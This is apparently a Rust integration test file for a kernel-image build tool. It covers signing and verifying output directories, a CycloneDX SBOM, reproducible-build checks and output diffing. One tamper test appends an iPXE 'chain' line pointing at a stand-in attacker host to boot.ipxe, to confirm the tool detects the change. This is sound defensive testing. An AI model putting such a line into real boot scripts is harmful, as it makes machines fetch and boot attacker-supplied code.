//! Integrity of output directories on the fake-kernel project: `keygen`, `sign` and
//! `verify-image` (good signature, other key, tampered file, missing signature), the
//! CycloneDX SBOM beside the manifest, `build --verify`, and the output comparison
//! that names the differing cpio member or JSON key.

mod common;

use common::project::{text, Project};
use sanforge::commands::verify::{compare_dirs, DiffKind};
use sanforge::image::cpio::{Archive, Entry};
use std::path::{Path, PathBuf};

fn stdout(o: &std::process::Output) -> String {
    String::from_utf8_lossy(&o.stdout).into_owned()
}

fn stderr(o: &std::process::Output) -> String {
    String::from_utf8_lossy(&o.stderr).into_owned()
}

fn built() -> (Project, PathBuf) {
    let p = Project::new();
    let o = p.run(&["build", "recipes/test.toml"]);
    assert!(o.status.success(), "{}", text(&o));
    let out = p.root().join("out/test");
    (p, out)
}

fn json(path: &Path) -> serde_json::Value {
    serde_json::from_str(&std::fs::read_to_string(path).unwrap()).unwrap()
}

#[test]
fn keygen_sign_verify_and_refusals() {
    use std::os::unix::fs::PermissionsExt;
    let (p, out) = built();
    let keys = tempfile::tempdir().unwrap();
    let key = keys.path().join("release");
    let pubkey = keys.path().join("release.pub");
    let key_s = key.to_str().unwrap();
    let pub_s = pubkey.to_str().unwrap();
    let out_s = out.to_str().unwrap();

    let o = p.run(&["keygen", "--out", key_s]);
    assert!(o.status.success(), "{}", text(&o));
    assert_eq!(
        std::fs::metadata(&key).unwrap().permissions().mode() & 0o777,
        0o600
    );
    assert!(std::fs::read_to_string(&key)
        .unwrap()
        .starts_with("sanforge-ed25519-secret "));
    assert!(std::fs::read_to_string(&pubkey)
        .unwrap()
        .starts_with("sanforge-ed25519-public "));
    let before = std::fs::read(&key).unwrap();
    let o = p.run(&["keygen", "--out", key_s]);
    assert!(
        !o.status.success() && stderr(&o).contains("already exists"),
        "{}",
        text(&o)
    );
    assert_eq!(
        std::fs::read(&key).unwrap(),
        before,
        "keygen overwrote a key"
    );

    // Not signed yet.
    let o = p.run(&["verify-image", out_s, "--pubkey", pub_s]);
    assert!(
        !o.status.success() && stderr(&o).contains("not signed"),
        "{}",
        text(&o)
    );

    let o = p.run(&["sign", out_s, "--key", key_s]);
    assert!(o.status.success(), "{}", text(&o));
    assert!(out.join("SHA256SUMS.sig").is_file());
    let o = p.run(&["verify-image", out_s, "--pubkey", pub_s]);
    assert!(o.status.success(), "{}", text(&o));
    assert!(
        stdout(&o).contains("signature OK") && stdout(&o).contains("5 files"),
        "{}",
        text(&o)
    );

    // A key that did not sign the image is refused, and says so.
    let other = keys.path().join("other");
    assert!(p
        .run(&["keygen", "--out", other.to_str().unwrap()])
        .status
        .success());
    let o = p.run(&[
        "verify-image",
        out_s,
        "--pubkey",
        keys.path().join("other.pub").to_str().unwrap(),
    ]);
    assert!(!o.status.success(), "{}", text(&o));
    assert!(
        stderr(&o).contains("another key") && stderr(&o).contains("refusing"),
        "{}",
        text(&o)
    );
    // Library view: the same refusal, as a typed error.
    let vk =
        sanforge::contract::signature::load_verifying_key(&keys.path().join("other.pub")).unwrap();
    let e = sanforge::contract::signature::verify_dir(&out, &vk).unwrap_err();
    assert!(
        matches!(
            e.downcast_ref(),
            Some(sanforge::contract::signature::VerifyError::WrongKey { .. })
        ),
        "{e}"
    );

    // A file changed after signing is named.
    let ipxe = out.join("boot.ipxe");
    let mut t = std::fs::read_to_string(&ipxe).unwrap();
    t.push_str("chain http://evil.example/x\n");
    std::fs::write(&ipxe, t).unwrap();
    let o = p.run(&["verify-image", out_s, "--pubkey", pub_s]);
    assert!(!o.status.success(), "{}", text(&o));
    assert!(
        stderr(&o).contains("boot.ipxe") && stderr(&o).contains("modified after signing"),
        "{}",
        text(&o)
    );
}

#[test]
fn sbom_is_written_listed_and_deterministic() {
    let (p, out) = built();
    let sbom = json(&out.join("sbom.cdx.json"));
    assert_eq!(
        sanforge::image::sbom::check_structure(&sbom),
        Vec::<String>::new()
    );
    assert_eq!(sbom["bomFormat"], "CycloneDX");
    assert_eq!(sbom["specVersion"], "1.5");
    assert_eq!(sbom["metadata"]["timestamp"], "2026-01-01T00:00:00Z");
    // Derived from the manifest, and only from it.
    let manifest = json(&out.join("manifest.json"));
    assert_eq!(sbom, sanforge::image::sbom::sbom_from_manifest(&manifest));
    let comps = sbom["components"].as_array().unwrap();
    let kernel = comps.iter().find(|c| c["name"] == "linux").unwrap();
    assert_eq!(kernel["version"], "6.1.0-t");
    assert_eq!(kernel["hashes"][0]["alg"], "SHA-256");
    assert_eq!(
        kernel["hashes"][0]["content"],
        manifest["kernel"]["source-sha256"]
    );
    assert!(kernel["properties"]
        .to_string()
        .contains(manifest["kernel"]["config-sha256"].as_str().unwrap()));
    let init = comps.iter().find(|c| c["name"] == "sanforge-init").unwrap();
    assert_eq!(init["hashes"][0]["content"], manifest["init"]["sha256"]);
    // SHA256SUMS covers the SBOM.
    let sums = std::fs::read_to_string(out.join("SHA256SUMS")).unwrap();
    assert!(
        sums.lines().any(|l| l.ends_with("  sbom.cdx.json")),
        "{sums}"
    );

    // Packages: the fake project has none; a manifest with packages gets purls.
    let mut m = manifest.clone();
    m["packages"] = serde_json::json!([{ "name": "busybox", "version": "1:1.35.0-4+b3", "sha256": "ab".repeat(32), "arch": "amd64" }]);
    let s = sanforge::image::sbom::sbom_from_manifest(&m);
    let pkg = s["components"]
        .as_array()
        .unwrap()
        .iter()
        .find(|c| c["name"] == "busybox")
        .unwrap();
    assert_eq!(
        pkg["purl"],
        "pkg:deb/debian/busybox@1:1.35.0-4%2Bb3?arch=amd64"
    );
    assert_eq!(pkg["hashes"][0]["content"], "ab".repeat(32));
    assert_ne!(s["serialNumber"], sbom["serialNumber"]);

    // Rebuilding from scratch (another cache) gives the same bytes.
    let first = std::fs::read(out.join("sbom.cdx.json")).unwrap();
    let cache2 = tempfile::tempdir().unwrap();
    let o = p
        .sanforge()
        .env("SANFORGE_CACHE", cache2.path())
        .args(["build", "recipes/test.toml", "--out", "out/again"])
        .output()
        .unwrap();
    assert!(o.status.success(), "{}", text(&o));
    assert!(stdout(&o).contains("ran: kernel"), "{}", text(&o));
    assert_eq!(
        std::fs::read(p.root().join("out/again/sbom.cdx.json")).unwrap(),
        first
    );
}

#[test]
fn build_verify_on_the_fake_project_is_identical() {
    let p = Project::new();
    let o = p.run(&["build", "recipes/test.toml", "--verify"]);
    assert!(o.status.success(), "{}", text(&o));
    let s = stdout(&o);
    assert!(
        s.contains("reproducible: both builds are identical"),
        "{}",
        text(&o)
    );
    for f in [
        "boot.ipxe",
        "initramfs.cpio.zst",
        "manifest.json",
        "sbom.cdx.json",
        "vmlinuz",
        "SHA256SUMS",
    ] {
        assert!(
            s.lines()
                .any(|l| l.starts_with(f) && l.ends_with("identical")),
            "{f} not in the table:\n{s}"
        );
    }
    assert!(!s.contains("DIFFERENT"), "{s}");
    // Both builds really ran every stage (fresh caches) and left their outputs.
    let v = p.root().join("out/test.verify");
    for run in ["first", "second-build"] {
        assert!(v.join(run).join("initramfs.cpio.zst").is_file(), "{run}");
        let log = std::fs::read_to_string(v.join(format!("{run}.log"))).unwrap();
        assert!(
            log.contains("ran: kernel, userland, rootfs, outputs"),
            "{run}: {log}"
        );
    }
    // The project was copied (the recipe's cache stayed out of the copies and got no stages).
    assert!(
        !p.cache.join("stages/kernel").exists()
            || std::fs::read_dir(p.cache.join("stages/kernel"))
                .unwrap()
                .next()
                .is_none()
    );
    // The scratch copies are gone.
    let tmp: Vec<_> = std::fs::read_dir(p.cache.join("tmp")).unwrap().collect();
    assert!(tmp.is_empty(), "{tmp:?}");
}

#[test]
fn build_verify_fails_when_the_build_is_not_reproducible() {
    let p = Project::new();
    // A kernel whose bzImage records its build directory (which differs between the
    // two builds) is not reproducible.
    let mk = p.root().join("fake-linux/Makefile");
    let t = std::fs::read_to_string(&mk).unwrap().replace(
        "printf 'fake bzImage %s\\n' \"$$KBUILD_BUILD_TIMESTAMP\"",
        "printf 'fake bzImage %s %s\\n' \"$$KBUILD_BUILD_TIMESTAMP\" \"$(abspath $(O))\"",
    );
    assert!(t.contains("abspath"), "Makefile edit did not apply");
    std::fs::write(&mk, t).unwrap();
    let o = p.run(&["build", "recipes/test.toml", "--verify"]);
    assert!(!o.status.success(), "{}", text(&o));
    let s = stdout(&o);
    let line = s
        .lines()
        .find(|l| l.starts_with("vmlinuz"))
        .unwrap_or_default();
    assert!(
        line.contains("DIFFERENT: first difference at byte"),
        "{}",
        text(&o)
    );
    // The manifest records the vmlinuz hash: the key path is named.
    let line = s
        .lines()
        .find(|l| l.starts_with("manifest.json"))
        .unwrap_or_default();
    assert!(
        line.contains("DIFFERENT: key outputs[") && line.contains("].sha256 differs"),
        "{}",
        text(&o)
    );
    assert!(s.contains("NOT reproducible"), "{s}");
    assert!(
        s.lines()
            .any(|l| l.starts_with("boot.ipxe") && l.ends_with("identical")),
        "{s}"
    );
}

fn write_bundle(dir: &Path, motd: &str, manifest: serde_json::Value) {
    std::fs::create_dir_all(dir.join("logs")).unwrap();
    let mut ar = Archive::new();
    ar.add(Entry::data("init", "#!/bin/sh\n", 0o755));
    ar.add(Entry::data("etc/hostname", "node\n", 0o644));
    ar.add(Entry::data("etc/motd", motd, 0o644));
    ar.add(Entry::data("usr/bin/tool", "x", 0o755));
    ar.write_zstd(&dir.join("initramfs.cpio.zst"), 1767225600, 3)
        .unwrap();
    std::fs::write(
        dir.join("manifest.json"),
        serde_json::to_string_pretty(&manifest).unwrap(),
    )
    .unwrap();
    std::fs::write(dir.join("vmlinuz"), "kernel").unwrap();
    // Logs are not outputs: their differences do not count.
    std::fs::write(
        dir.join("logs/kernel.log"),
        format!("built in {}\n", dir.display()),
    )
    .unwrap();
}

#[test]
fn compare_dirs_names_the_cpio_member_and_the_json_key() {
    let d = tempfile::tempdir().unwrap();
    let (a, b) = (d.path().join("a"), d.path().join("b"));
    let m = serde_json::json!({ "kernel": { "release": "6.1.0", "config-sha256": "aa" }, "outputs": [ { "file": "vmlinuz", "sha256": "11" } ] });
    write_bundle(&a, "welcome\n", m.clone());
    write_bundle(&b, "welcome\n", m.clone());
    assert_eq!(compare_dirs(&a, &b).unwrap(), vec![]);

    let mut m2 = m.clone();
    m2["kernel"]["config-sha256"] = serde_json::json!("bb");
    write_bundle(&b, "welcome!\n", m2);
    std::fs::write(b.join("extra"), "x").unwrap();
    let diffs = compare_dirs(&a, &b).unwrap();
    let files: Vec<&str> = diffs.iter().map(|d| d.file.as_str()).collect();
    assert_eq!(files, ["extra", "initramfs.cpio.zst", "manifest.json"]);
    assert_eq!(diffs[0].kind, DiffKind::OnlyInSecond);
    assert_eq!(
        diffs[1].kind,
        DiffKind::Content("member etc/motd: content differs at byte 7 (sizes 8 and 9)".into())
    );
    assert_eq!(
        diffs[2].kind,
        DiffKind::Content("key kernel.config-sha256 differs (\"aa\" vs \"bb\")".into())
    );
    assert_eq!(
        diffs[1].to_string(),
        "initramfs.cpio.zst: member etc/motd: content differs at byte 7 (sizes 8 and 9)"
    );
    let table = sanforge::commands::verify::table(
        &sanforge::commands::verify::list_files(&b).unwrap(),
        &diffs,
    );
    assert!(
        table
            .lines()
            .any(|l| l.starts_with("vmlinuz") && l.ends_with("identical")),
        "{table}"
    );
    assert!(
        table
            .lines()
            .any(|l| l.starts_with("manifest.json")
                && l.contains("DIFFERENT: key kernel.config-sha256")),
        "{table}"
    );
}
